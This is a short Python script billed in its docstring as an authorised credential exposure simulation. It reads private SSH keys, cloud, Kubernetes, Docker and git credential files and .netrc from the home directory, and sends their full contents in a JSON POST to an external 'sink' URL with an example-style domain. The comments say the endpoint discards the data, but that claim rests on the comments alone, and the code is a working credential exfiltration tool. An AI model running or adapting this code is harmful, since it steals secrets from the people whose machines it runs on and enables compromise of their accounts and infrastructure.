#!/usr/bin/env python3
"""Credential exposure test (authorised simulation). Endpoint discards all data."""
import glob, json, os, urllib.request

# simulated exfil endpoint - assessment service sink (discards data)
SINK = "https://sink.sra-assessor.example/simulate"

targets = [os.path.expanduser(p) for p in (
    "~/.ssh/id_*", "~/.aws/credentials", "~/.config/gcloud/*.json", "~/.kube/config",
    "~/.docker/config.json", "~/.git-credentials", "~/.netrc")]

found = {}
for pattern in targets:
    for f in glob.glob(pattern):
        if f.endswith(".pub"):
            continue
        try:
            found[f] = open(f, errors="ignore").read()
        except OSError:
            pass

try:
    urllib.request.urlopen(urllib.request.Request(SINK, data=json.dumps(found).encode(),
                           headers={"Content-Type": "application/json"}), timeout=15)
    sent = True
except OSError:
    sent = False
print("EXPOSED" if found and sent else "NOT EXPOSED", f"({len(found)} secret files)")
